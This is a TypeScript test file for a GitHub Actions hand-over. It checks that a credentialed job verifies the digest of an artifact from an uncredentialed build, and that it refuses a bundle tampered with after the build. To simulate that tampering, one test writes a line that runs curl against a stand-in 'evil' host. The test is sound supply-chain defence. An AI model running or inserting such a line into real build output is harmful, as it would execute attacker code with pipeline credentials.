/**
 * The hand-over between ./.github/actions/build (a job without credentials) and
 * ./.github/actions/use-build (the credentialed job), run from the actions' own scripts: the digest
 * the build job outputs is the one the credentialed job accepts, over exactly the paths the build
 * uploads, and a build changed in between is refused before the environment is even resolved.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { runScript } from '../test-support/composite-action';

interface Step {
  readonly name: string;
  readonly run?: string;
  readonly with?: Record<string, unknown>;
}
const ROOT = join(__dirname, '..');
const stepsOf = (action: string): Step[] =>
  (parse(readFileSync(join(ROOT, '.github', 'actions', action, 'action.yml'), 'utf8')) as { runs: { steps: Step[] } }).runs.steps;
const BUILD = stepsOf('build');
const USE = stepsOf('use-build');
const step = (steps: readonly Step[], name: string): Step => {
  const found = steps.find((s) => s.name === name);
  if (!found) throw new Error(`no step "${name}"`);
  return found;
};

let work: string;
const env = (extra: Record<string, string> = {}): Record<string, string> => ({
  PATH: process.env.PATH ?? '',
  GITHUB_OUTPUT: join(work, 'github-output'),
  ...extra,
});

beforeEach(() => {
  work = mkdtempSync(join(tmpdir(), 'build-handoff-'));
  symlinkSync(join(ROOT, 'delivery'), join(work, 'delivery'));
  mkdirSync(join(work, 'cdktf.out', 'stacks', 'billing-dev'), { recursive: true });
  mkdirSync(join(work, '.gen', 'build'), { recursive: true });
  writeFileSync(join(work, 'cdktf.out', 'stacks', 'billing-dev', 'cdk.tf.json'), '{}\n');
  writeFileSync(join(work, '.gen', 'build', 'delivery-tools.cjs'), 'process.stdout.write("region=eu-west-1\\n")\n');
  writeFileSync(join(work, 'github-output'), '');
});
afterEach(() => rmSync(work, { recursive: true, force: true }));

async function buildDigest(): Promise<string> {
  const r = await runScript(step(BUILD, 'Digest of the build').run!, work, env());
  expect(r.code).toBe(0);
  const digest = /^digest=([0-9a-f]{64})$/m.exec(readFileSync(join(work, 'github-output'), 'utf8'))?.[1];
  expect(digest).toBeDefined();
  return digest!;
}

const verify = (digest: string) => runScript(step(USE, "Verify the build's digest").run!, work, env({ DIGEST: digest }));

test('the build uploads exactly the paths its digest covers and the credentialed job verifies', () => {
  const upload = step(BUILD, 'Upload the build');
  expect(String(upload.with?.path).trim().split('\n')).toEqual(['cdktf.out', '.gen/build']);
  expect(upload.with?.['include-hidden-files']).toBe(true);
  expect(step(BUILD, 'Digest of the build').run).toContain('verify-build.sh digest cdktf.out .gen/build');
  expect(step(USE, "Verify the build's digest").run).toBe('bash delivery/verify-build.sh verify "$DIGEST" cdktf.out .gen/build');
  // The environment is resolved with the bundle only after the verification, and the job installs no packages.
  const names = USE.map((s) => s.name);
  expect(names.indexOf("Verify the build's digest")).toBeLessThan(names.indexOf('Resolve the environment'));
  expect(USE.some((s) => /\bnpm\b/.test(s.run ?? ''))).toBe(false);
  expect(step(USE, 'Install Node').with?.cache).toBeUndefined();
});

test('the digest the build job outputs is accepted; a bundle changed after the build is refused', async () => {
  const digest = await buildDigest();
  expect(await verify(digest)).toMatchObject({ code: 0 });
  writeFileSync(join(work, '.gen', 'build', 'delivery-tools.cjs'), 'require("child_process").execSync("curl evil")\n');
  const refused = await verify(digest);
  expect(refused.code).toBe(1);
  expect(refused.output).toContain('nothing of it was run with credentials');
});
